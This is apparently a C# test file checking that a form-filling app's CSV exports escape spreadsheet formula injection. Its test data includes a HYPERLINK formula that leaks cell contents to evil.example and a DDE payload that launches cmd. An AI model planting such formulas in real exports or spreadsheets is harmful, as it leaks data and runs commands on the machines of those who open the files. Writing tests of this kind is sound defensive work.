using System.Net;
using System.Net.Http.Json;
using Microsoft.EntityFrameworkCore;
using MiniExcelLibs;
using OneForm.Accounts;
using OneForm.Collection;
using OneForm.Data;
using OneForm.Registry;
using OneForm.Sharing;
using OneForm.Testing;
using OneForm.Tests.Collection;
using OneForm.Tests.Hosting;

namespace OneForm.Tests.Sharing;

/// <summary>A CSV opened in a spreadsheet does not run what someone typed as a formula (finding 10); figures stay figures.</summary>
[Collection(nameof(AppsCollection))]
public sealed class CsvInjectionTests(Apps apps)
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")";

    private static List<string> Cells(string csv) =>
    [
        .. new MemoryStream(System.Text.Encoding.UTF8.GetBytes(csv)).Query(useHeaderRow: false, excelType: ExcelType.CSV)
            .Cast<IDictionary<string, object?>>().SelectMany(r => r.Values).OfType<string>(),
    ];

    [Theory]
    [InlineData("=1+2", "'=1+2"), InlineData("+86 13912345678", "'+86 13912345678"), InlineData("-2+3", "'-2+3"), InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t=1"), InlineData("\r=1", "\"'\r=1\""), InlineData("-3", "-3"), InlineData("-3.25", "-3.25"), InlineData("+5", "+5"), InlineData("-1E5", "-1E5")]
    [InlineData("a=b", "a=b"), InlineData("张三", "张三"), InlineData("'=1", "'=1"), InlineData("=1,2", "\"'=1,2\"")]
    public void A_field_that_would_run_as_a_formula_gets_a_quote_and_a_number_stays_a_number(string value, string written) =>
        Assert.Equal(written, OneForm.Common.Text.CsvField(value));

    [Theory, MemberData(nameof(Apps.Providers), MemberType = typeof(Apps))]
    public async Task A_formula_typed_into_a_text_field_is_written_as_text_in_the_task_csv(DatabaseProvider provider)
    {
        var app = await apps.GetAsync(provider);
        const string unit = "652301101201";
        var cadre = await PageSession.BearerAsync(app, (await app.CreateUserAsync(Role.Cadre, unit)).UserName!);
        var taskId = await Filling.TaskIdAsync(app, unit, "CJ-FZ-01");
        var task = await Filling.GetAsync(cadre, taskId);
        var saved = await cadre.PutAsJsonAsync($"/api/v1/tasks/{taskId}/values", new ValuesRequest([Filling.Change(task, "DEV_MEASURES", Formula)]));
        Assert.True(saved.IsSuccessStatusCode, await saved.Content.ReadAsStringAsync());

        var csv = await cadre.GetStringAsync($"/api/v1/tasks/{taskId}/file?format=csv");
        var xlsx = new MemoryStream(await cadre.GetByteArrayAsync($"/api/v1/tasks/{taskId}/file?format=xlsx"))
            .Query(useHeaderRow: false).Cast<IDictionary<string, object?>>().SelectMany(r => r.Values).OfType<string>().ToList();

        var cells = Cells(csv);
        Assert.Contains("'" + Formula, cells);
        Assert.DoesNotContain(cells, c => c.Length > 0 && "=+-@".Contains(c[0], StringComparison.Ordinal) && !decimal.TryParse(c, out _));
        Assert.Contains(Formula, xlsx);  // xlsx keeps text as text: nothing to escape there
    }

    [Theory, MemberData(nameof(Apps.Providers), MemberType = typeof(Apps))]
    public async Task A_residents_name_that_looks_like_a_formula_is_written_as_text_in_the_roster_csv(DatabaseProvider provider)
    {
        var app = await apps.GetAsync(provider);
        const string unit = "652301004002";
        var asker = await PageSession.BearerAsync(app, (await app.CreateUserAsync(Role.Department, departmentCode: "JYJ")).UserName!);
        var welfare = await PageSession.BearerAsync(app, "dept.minzheng", Demo.DemoSeed.DefaultPassword);
        var grant = (await (await asker.PostAsJsonAsync("/api/v1/grants", new GrantRequest(["PA_LOW_INCOME"], unit, 2026, 2026, "核对", PersonLevel: true), TestJson.Options))
            .Content.ReadFromJsonAsync<GrantView>(TestJson.Options))!;
        await welfare.PostAsJsonAsync($"/api/v1/grants/{grant.Id}/approve", new GrantDecision(null, null), TestJson.Options);
        var (resident, name) = await app.WithDbAsync(async db =>
        {
            var element = await db.DataElements.Where(e => e.Code == "PA_LOW_INCOME").Select(e => e.Id).SingleAsync();
            var units = db.OrgUnits.Where(u => u.Code == unit).Select(u => u.Id);
            var first = await db.Residents.Where(r => units.Contains(r.OrgUnitId) && r.Status == ResidentStatus.Active
                    && db.PersonAttributes.Any(a => a.ResidentId == r.Id && a.DataElementId == element && a.Value == "true"))
                .OrderBy(r => r.Id).Select(r => new { r.Id, r.Name }).FirstAsync();
            return (first.Id, first.Name);
        });
        await app.WithDbAsync(db => db.Residents.Where(r => r.Id == resident).ExecuteUpdateAsync(s => s.SetProperty(r => r.Name, "@SUM(1+1)*cmd|' /C calc'!A0")));
        try
        {
            var response = await asker.GetAsync($"/api/v1/data/roster?unit={unit}&attribute=PA_LOW_INCOME");
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            var cells = Cells((await response.Content.ReadAsStringAsync()).TrimStart('\uFEFF'));

            Assert.Contains("'@SUM(1+1)*cmd|' /C calc'!A0", cells);
            Assert.DoesNotContain("@SUM(1+1)*cmd|' /C calc'!A0", cells);
        }
        finally
        {
            await app.WithDbAsync(db => db.Residents.Where(r => r.Id == resident).ExecuteUpdateAsync(s => s.SetProperty(r => r.Name, name)));
        }
    }
}
